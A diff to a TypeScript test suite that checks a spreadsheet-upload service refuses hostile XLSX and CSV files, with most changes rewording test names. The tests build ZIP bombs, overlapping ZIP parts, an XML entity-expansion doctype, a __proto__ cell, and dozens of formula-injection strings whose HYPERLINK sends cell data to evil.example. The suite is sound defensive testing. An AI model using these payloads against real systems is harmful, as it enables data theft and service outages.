@@ -26,7 +26,7 @@ async function send(path: string, file: string | Buffer, fields: Record<string, 
 const preview = (file: string | Buffer) => send('/merchandise/preview', file);
 const canteen = (file: string | Buffer) => send('/canteen/preview', file, { month: '2026-11' });
 
-// With processes that are warm already.
+// Starts the sandbox processes before the tests.
 beforeAll(() => canteen('PNR;Betrag\n1;1,00\n'));
 
 const row = (n: number, name: string, amount: string) =>
@@ -35,14 +35,16 @@ const good = row(2, 'Tassen', '<c r="B2"><v>12.5</v></c>');
 const sheet = (rows: string, before = '') => `${before}<sheetData>${rows}</sheetData>`;
 const part = (name: string, bytes: string | Buffer = '<x/>'): ZipEntry => ({ name, bytes: Buffer.from(bytes) });
 const large = Buffer.alloc(60_000_000, ' ');
-/** The sheet of a good file replaced by one of sixty million blanks that says this of itself. */
-const bomb = (said: Partial<ZipEntry>) =>
+/** A valid file whose sheet is replaced by sixty million blanks with these ZIP headers. */
+const bomb = (headers: Partial<ZipEntry>) =>
   zipOf(
-    workbookParts('').map((one) => (one.name.endsWith('sheet1.xml') ? { name: one.name, bytes: large, ...said } : one)),
+    workbookParts('').map((one) =>
+      one.name.endsWith('sheet1.xml') ? { name: one.name, bytes: large, ...headers } : one,
+    ),
   );
 
-/** A thousand parts that are the same nine million bytes, which unpack to nothing in a fifth of a second. */
-function partsInOnePlace(): Buffer {
+/** A thousand parts at the same nine million bytes, which decompress to nothing in a fifth of a second. */
+function overlappingParts(): Buffer {
   const packed = Buffer.alloc(9_000_005, Buffer.from([0, 0, 0, 0xff, 0xff]));
   packed.writeUInt8(1, 9_000_000);
   const sheets = Array.from({ length: 1_000 }, (_, n): ZipEntry => ({
@@ -54,7 +56,7 @@ function partsInOnePlace(): Buffer {
   return zipOf([...sheets, ...workbookParts(sheet(good))]);
 }
 
-/** Rows with nine blank ones between, as far down as that one. */
+/** Every tenth row up to the last one. */
 const spread = (last: number) =>
   Array.from({ length: Math.ceil(last / 10) }, (_, n) => last - 10 * n)
     .filter((n) => n > 1)
@@ -64,11 +66,15 @@ const spread = (last: number) =>
 
 describe('a hostile XLSX', () => {
   it.each<[what: string, file: () => Buffer, outcome: string]>([
-    ['that unpacks to 60 MB', () => bomb({}), '413 PAYLOAD_TOO_LARGE'],
-    ['that says so in one place only', () => bomb({ says: { size: 1_000 } }), '400 FILE_UNREADABLE'],
-    ['that says so nowhere', () => bomb({ says: { size: 1_000 }, localSize: 1_000 }), '400 FILE_UNREADABLE'],
+    ['that decompresses to 60 MB', () => bomb({}), '413 PAYLOAD_TOO_LARGE'],
+    ['with a wrong size in the central directory', () => bomb({ says: { size: 1_000 } }), '400 FILE_UNREADABLE'],
     [
-      'whose local header wants four gigabytes',
+      'with a wrong size in both headers',
+      () => bomb({ says: { size: 1_000 }, localSize: 1_000 }),
+      '400 FILE_UNREADABLE',
+    ],
+    [
+      'whose local header announces four gigabytes',
       () => zipOf(workbookParts(sheet(good)).map((one) => ({ ...one, localSize: 0xffff_fff0 }))),
       '400 FILE_UNREADABLE',
     ],
@@ -78,7 +84,7 @@ describe('a hostile XLSX', () => {
       '400 FILE_UNREADABLE',
     ],
     [
-      'that is locked',
+      'that is encrypted',
       () => zipOf(workbookParts(sheet(good)).map((one) => ({ ...one, says: { flags: 1 } }))),
       '400 FILE_UNREADABLE',
     ],
@@ -91,25 +97,25 @@ describe('a hostile XLSX', () => {
         ),
       '413 PAYLOAD_TOO_LARGE',
     ],
-    ['with a part twice', () => handmadeWorkbook(sheet(good), [part('xl/workbook.xml')]), '400 FILE_UNREADABLE'],
-    ['whose parts are one and the same place', partsInOnePlace, '400 FILE_UNREADABLE'],
+    ['with a duplicate part', () => handmadeWorkbook(sheet(good), [part('xl/workbook.xml')]), '400 FILE_UNREADABLE'],
+    ['whose parts overlap', overlappingParts, '400 FILE_UNREADABLE'],
     ['of text', () => Buffer.from('Artikel;November 2026\nTassen;1\n'), '400 FILE_UNREADABLE'],
     ['of HTML', () => Buffer.from('<table><tr><td>1</td></tr></table>'), '400 FILE_UNREADABLE'],
     ['of two bytes', () => Buffer.from('PK'), '400 FILE_UNREADABLE'],
-    ['that is another ZIP', () => zipOf([part('a.txt')]), '400 FILE_UNREADABLE'],
+    ['that is a ZIP without a workbook', () => zipOf([part('a.txt')]), '400 FILE_UNREADABLE'],
     [
       'without a visible sheet',
       () => zipOf(workbookParts(sheet(good), { sheetTag: ' state="hidden"' })),
       '400 FILE_UNREADABLE',
     ],
     ['of 20,001 rows', () => workbook([[], ...Array.from({ length: 20_001 }, () => ['x', 1])]), '400 TOO_MANY_ROWS'],
-    ['that goes on below what is read of it', () => handmadeWorkbook(sheet(spread(40_001))), '400 TOO_MANY_ROWS'],
+    ['with rows beyond the reading limit', () => handmadeWorkbook(sheet(spread(40_001))), '400 TOO_MANY_ROWS'],
     ['of more than 10 MiB', () => Buffer.alloc(10 * 1024 * 1024 + 1), '413 PAYLOAD_TOO_LARGE'],
-  ])('%s is refused, and not for want of time', { timeout: 60_000 }, async (_what, file, outcome) => {
+  ])('%s is refused before the time limit', { timeout: 60_000 }, async (_what, file, outcome) => {
     const bytes = file();
-    const begun = performance.now();
+    const startedAt = performance.now();
     expect((await preview(bytes)).outcome).toBe(outcome);
-    expect(performance.now() - begun).toBeLessThan(15_000);
+    expect(performance.now() - startedAt).toBeLessThan(15_000);
   });
 
   it.each<[what: string, file: () => Buffer]>([
@@ -129,7 +135,7 @@ describe('a hostile XLSX', () => {
       'with a cell at XFD1048576',
       () => handmadeWorkbook(sheet(`${good}<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>`)),
     ],
-    ['that says it is a million rows long', () => handmadeWorkbook(sheet(good, '<dimension ref="A1:XFD1048576"/>'))],
+    ['that announces a million rows', () => handmadeWorkbook(sheet(good, '<dimension ref="A1:XFD1048576"/>'))],
     [
       'of 1,048,576 empty rows',
       () => handmadeWorkbook(sheet(good + Array.from({ length: 1_048_574 }, (_, n) => `<row r="${n + 3}"/>`).join(''))),
@@ -140,10 +146,10 @@ describe('a hostile XLSX', () => {
         handmadeWorkbook(sheet(good, '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>')),
     ],
     [
-      'whose cells name a prototype',
+      'with a cell named __proto__',
       () => handmadeWorkbook(sheet(`${good}<row r="3"><c r="__proto__"><v>1</v></c></row>`)),
     ],
-  ])('%s gives its one row', { timeout: 60_000 }, async (_what, file) => {
+  ])('%s yields its one row', { timeout: 60_000 }, async (_what, file) => {
     const { outcome, text } = await preview(file());
     expect(outcome).toBe('200');
     expect((JSON.parse(text) as { rows: object[] }).rows).toMatchObject([
@@ -151,7 +157,7 @@ describe('a hostile XLSX', () => {
     ]);
   });
 
-  it('that ends where reading does is taken whole, however far its formats go', async () => {
+  it('with its last row at the reading limit is accepted, even with formats below it', async () => {
     const formats = '<row r="1048576"><c r="C1048576" s="0"/></row>';
     const { outcome, text } = await preview(handmadeWorkbook(sheet(spread(40_000) + formats)));
     expect(outcome).toBe('200');
@@ -160,13 +166,13 @@ describe('a hostile XLSX', () => {
 
   it.each([
     ['a formula without a value', '<c r="B2"><f>1+1</f></c>', 'AMOUNT_MISSING'],
-    ['a formula whose value is no number', '<c r="B2" t="str"><f>"x"</f><v>x</v></c>', 'AMOUNT_INVALID'],
+    ['a formula with a text value', '<c r="B2" t="str"><f>"x"</f><v>x</v></c>', 'AMOUNT_INVALID'],
     ['an error', '<c r="B2" t="e"><v>#REF!</v></c>', 'AMOUNT_INVALID'],
-    ['a truth value', '<c r="B2" t="b"><v>1</v></c>', 'AMOUNT_INVALID'],
+    ['a boolean', '<c r="B2" t="b"><v>1</v></c>', 'AMOUNT_INVALID'],
     ['a date', '<c r="B2" t="d"><v>2026-11-01T00:00:00Z</v></c>', 'AMOUNT_IS_DATE'],
-    ['no number', '<c r="B2"><v>NaN</v></c>', 'AMOUNT_INVALID'],
-    ['more than there is', '<c r="B2"><v>1e300</v></c>', 'AMOUNT_INVALID'],
-  ])('an amount that is %s is a fault', async (_what, cell, code) => {
+    ['not a number', '<c r="B2"><v>NaN</v></c>', 'AMOUNT_INVALID'],
+    ['too large', '<c r="B2"><v>1e300</v></c>', 'AMOUNT_INVALID'],
+  ])('reports an amount that is %s', async (_what, cell, code) => {
     const { text } = await preview(handmadeWorkbook(sheet(row(2, 'Tassen', cell))));
     expect((JSON.parse(text) as { errors: object[] }).errors).toMatchObject([{ row: 2, column: 'B', code }]);
   });
@@ -176,7 +182,7 @@ describe('a hostile CSV', () => {
   it.each<[what: string, file: () => string | Buffer, outcome: string]>([
     ['of one line of 10 MB', () => `PNR;Betrag\n1;${'x'.repeat(10_000_000)}`, '400 FILE_UNREADABLE'],
     ['of five million cells', () => `PNR;Betrag\n${';'.repeat(5_000_000)}`, '400 FILE_UNREADABLE'],
-    ['with quotes that never close', () => `PNR;Betrag\n1;"2\n${'3;4\n'.repeat(50_000)}`, '400 FILE_UNREADABLE'],
+    ['with an unclosed quote', () => `PNR;Betrag\n1;"2\n${'3;4\n'.repeat(50_000)}`, '400 FILE_UNREADABLE'],
     ['of quotes', () => `PNR;Betrag\n${'"'.repeat(9_999_999)}`, '400 FILE_UNREADABLE'],
     ['with NUL', () => 'PNR;Betrag\n1;2\0', '400 ENCODING_UNSUPPORTED'],
     ['of empty lines', () => `PNR;Betrag\n${'\n'.repeat(10_000_000)}`, '400 TOO_MANY_ROWS'],
@@ -193,7 +199,7 @@ describe('a hostile CSV', () => {
     expect((await canteen(file())).outcome).toBe(outcome);
   });
 
-  it('of 300 columns is read, and so is one whose lines end in CR alone', async () => {
+  it('with 300 columns is read, and so is a CSV with CR line ends', async () => {
     const more = Array.from({ length: 298 }, (_, n) => `S${n}`).join(';');
     const wide = await canteen(`PNR;Betrag;${more}\n1;2,00;${more}\n`);
     const old = await canteen('PNR;Betrag\r1;2,00\r');
@@ -202,7 +208,7 @@ describe('a hostile CSV', () => {
   });
 });
 
-// What a spreadsheet runs, or might after a careless conversion.
+// Texts that a spreadsheet evaluates, or might evaluate after a careless conversion.
 const link = 'HYPERLINK("http://evil.example/?x="&A1,"hier")';
 const forms = [
   ...['=', '+', '-', '@', '==', '=+', '+=', '-+', '@=', '=-', '=@', '＝', '＋', '－', '＠'].map((sign) => sign + link),
@@ -214,15 +220,15 @@ const forms = [
 describe('=HYPERLINK', () => {
   const runs = /^[=+\-@\t\r\n＝＋－＠]/;
 
-  it('in thirty forms is text in every file that comes out', { timeout: 120_000 }, async () => {
+  it('in thirty forms is plain text in every exported file', { timeout: 120_000 }, async () => {
     expect(new Set(forms).size).toBeGreaterThan(30);
-    // A name has 60 characters.
+    // A name has at most 60 characters.
     const all = forms.map((form, n) => `${form.slice(0, 50)} ${n}`);
     const isWide = (name: string) => /[＝＋－＠]/.test(name);
     const names = all.filter((name) => !isWide(name));
     const wide = workbook([['Artikel', '11/2026'], ...all.filter(isWide).map((name) => [name, 1])]);
     const { errors } = JSON.parse((await preview(wide)).text) as { errors: { code: string }[] };
-    // Windows-1252 does not have these signs.
+    // Windows-1252 does not contain these characters.
     expect(errors.map(({ code }) => code)).toEqual(Array(4).fill('NAME_UNMAPPABLE'));
     const file = workbook([['Artikel', '11/2026'], ...names.map((name) => [name, 1])]);
     let version = 0;
@@ -257,7 +263,7 @@ describe('=HYPERLINK', () => {
     });
   });
 
-  it('never gets into a payroll file', { timeout: 60_000 }, async () => {
+  it('never reaches a payroll file', { timeout: 60_000 }, async () => {
     const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
     const numbers = forms.map((form) => `${quoted(form)};A;1,00\n`).join('');
     const refused = await canteen(`PNR;Name;Betrag\n${numbers}`);
